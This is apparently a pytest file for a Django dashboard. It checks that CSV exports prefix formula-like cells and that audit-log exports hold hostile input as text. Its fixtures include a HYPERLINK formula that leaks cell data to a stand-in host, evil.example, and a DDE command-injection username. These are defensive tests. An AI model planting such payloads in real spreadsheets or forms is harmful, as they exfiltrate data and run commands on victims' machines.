"""One CSV writer for every export (core/csvexport.py), and no cell a spreadsheet would run as a formula (issue 37,
item 9)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.test import Client

from accounts.models import AccountEvent
from core.csvexport import FORMULA_START, csv_cell
from tests.factories import MerchantFactory

ROOT = Path(__file__).resolve().parent.parent.parent
APP_PACKAGES = ("config", "core", "accounts", "integrations", "payments", "webhooks")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_text_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers():
    values = ["=1+1", "+55 11 98765-4321", "-x", "@SUM(A1)", "\tTAB", "\rCR", "ok", "", "a=b", -500, 0, 12, None,
              True, {"a": 1}]

    cells = [csv_cell(value) for value in values]

    assert cells == ["'=1+1", "'+55 11 98765-4321", "'-x", "'@SUM(A1)", "'\tTAB", "'\rCR", "ok", "", "a=b", -500,
                     0, 12, "", "True", "{'a': 1}"]


def test_only_core_csvexport_writes_csv():
    writers = []
    for package in APP_PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            tree = ast.parse(path.read_text(), filename=str(path))
            imports = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
            imports |= {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
            if "csv" in imports:
                writers.append(str(path.relative_to(ROOT)))

    assert writers == ["core/csvexport.py"]


@pytest.mark.django_db
def test_a_failed_sign_in_with_a_formula_user_agent_reaches_audit_csv_as_text():
    merchant = MerchantFactory()
    attacker = Client(HTTP_USER_AGENT=HYPERLINK)
    attacker.post("/dashboard/login/", {"username": merchant.owner.email, "password": "wrong-password"})
    attacker.post("/dashboard/login/", {"username": "=cmd|' /C calc'!A0@example.com", "password": "x"})
    owner = Client()
    owner.force_login(merchant.owner)

    response = owner.get("/dashboard/audit.csv")

    rows = rows_of(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
    header, *entries = rows
    assert header[-1] == "user_agent"
    failed = [dict(zip(header, row, strict=True)) for row in entries
              if row[header.index("action")] == AccountEvent.Action.SIGN_IN_FAILED]
    assert [(entry["reason"], entry["user_agent"]) for entry in failed] == [("wrong password", "'" + HYPERLINK)]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
